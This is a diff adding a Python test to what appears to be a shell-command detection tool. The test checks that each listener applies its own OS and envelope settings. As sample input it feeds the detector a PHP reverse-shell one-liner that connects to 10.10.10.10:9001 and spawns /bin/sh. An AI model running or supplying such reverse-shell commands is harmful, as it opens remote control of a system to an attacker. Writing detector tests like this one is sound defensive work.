@@ -318,3 +318,42 @@ class TestForward:
         assert closed and reply == {"ack": "c"}
         assert any(x["event"] == "forward_protocol_error" for x in s.logs)
         assert os.environ.get("SHELLSIEVE_CACHE_DIR")  # the conftest's temporary cache, not ~/.cache
+
+
+class TestPerListener:
+    def test_host_os_and_envelope_fields_are_per_listener(self) -> None:
+        """One listener's ?host_os=macos&envelope=payload applies to its events only: the same
+        command line alerts as linux on the other listener, and `payload` opens envelopes only there."""
+        a, b, fport = _ports(3)
+        got: list[bytes] = []
+        sink = socket.create_server(("127.0.0.1", fport))
+
+        def drain() -> None:
+            conn, _ = sink.accept()
+            with conn:
+                buf = b""
+                while chunk := conn.recv(1 << 16):
+                    buf += chunk
+            got.extend(buf.splitlines())
+
+        import threading
+
+        t = threading.Thread(target=drain, daemon=True)
+        t.start()
+        shell = "php -r '$s=fsockopen(\"10.10.10.10\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"
+        wrapped = json.dumps({"payload": shell, "src": "x"})
+        with serve("--listen", f"tcp://127.0.0.1:{a}", "--listen", f"tcp://127.0.0.1:{b}?host_os=macos&envelope=payload",
+                   "--forward", f"tcp://127.0.0.1:{fport}") as s:
+            for port in (a, b):
+                with socket.create_connection(("127.0.0.1", port)) as c:
+                    c.sendall(f"{shell}\n{wrapped}\n".encode())
+                time.sleep(0.3)  # one listener's lines before the other's, so the output order is known
+            assert s.stop() == 0
+        t.join(5)
+        sink.close()
+        docs = [json.loads(x) for x in got]
+        assert [d.get("event", {}).get("kind") for d in docs] == ["alert", None, "alert", "alert"]
+        assert docs[0]["host"]["os"]["type"] == "linux"
+        assert docs[1] == json.loads(wrapped)  # `payload` is no envelope field on the first listener
+        assert docs[2]["host"]["os"]["type"] == "macos"
+        assert docs[3]["src"] == "x" and docs[3]["host"]["os"]["type"] == "macos"
